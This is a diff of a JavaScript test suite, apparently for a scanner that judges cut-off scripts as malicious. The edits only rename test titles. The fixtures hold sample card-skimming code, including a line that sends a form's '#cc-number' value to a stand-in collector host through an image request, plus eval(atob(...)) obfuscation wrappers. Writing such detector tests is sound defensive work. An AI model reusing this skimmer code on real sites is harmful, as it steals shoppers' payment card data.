@@ -9,7 +9,7 @@ f.onchange=function(){var d=f.value.replace(/[;"'\\/]/g,'');/* a } comment */new
 var later=[1,2,{a:"}"}];console.log(\`x}\`);function more(a){return a/2;}more(later);})();`
 
 describe('a program whose end is missing', () => {
-  it('is closed where something ends, wherever it was cut', () => {
+  it('is closed after a complete part, at any cut', () => {
     const atFirst = code.indexOf(';') + 1
     for (let cut = atFirst + 1; cut < code.length; cut += 7) {
       const first = closedPrefixes(code.slice(0, cut)).find((one) => parseProgram(one) !== null)
@@ -18,17 +18,17 @@ describe('a program whose end is missing', () => {
     }
   })
 
-  it('is judged by what is there', () => {
+  it('is judged by the remaining part', () => {
     const judged = judgeScript(code.slice(0, code.indexOf('console')))
     expect(judged).toMatchObject({ verdict: 'malicious', parsed: 'partly', ended: false })
   })
 
-  it('is judged by the call that it was cut in', () => {
+  it('is judged by the call that was cut', () => {
     const torn = `setInterval(function(){new Image().src='https://collect.stranger-shop.example/?d='+document.querySelector('#cc-number').value+encodeURIComponent(location.`
     expect(judgeScript(torn).reasons.map((reason) => reason.code)).toContain('card-to-stranger')
   })
 
-  it('is judged by the text that it was cut in, whatever that is written in', () => {
+  it('is judged by the text that was cut, in any notation', () => {
     const codes = [...code].map((character) => character.charCodeAt(0))
     for (const whole of [
       `eval(atob("${btoa(code)}"))`,
@@ -42,7 +42,7 @@ describe('a program whose end is missing', () => {
     }
   })
 
-  it('gives nothing where no statement ends, and never throws', () => {
+  it('gives nothing if no statement ends, and never throws', () => {
     expect(closedPrefixes('var a = "')).toEqual([])
     expect(closedPrefixes('')).toEqual([])
     fc.assert(
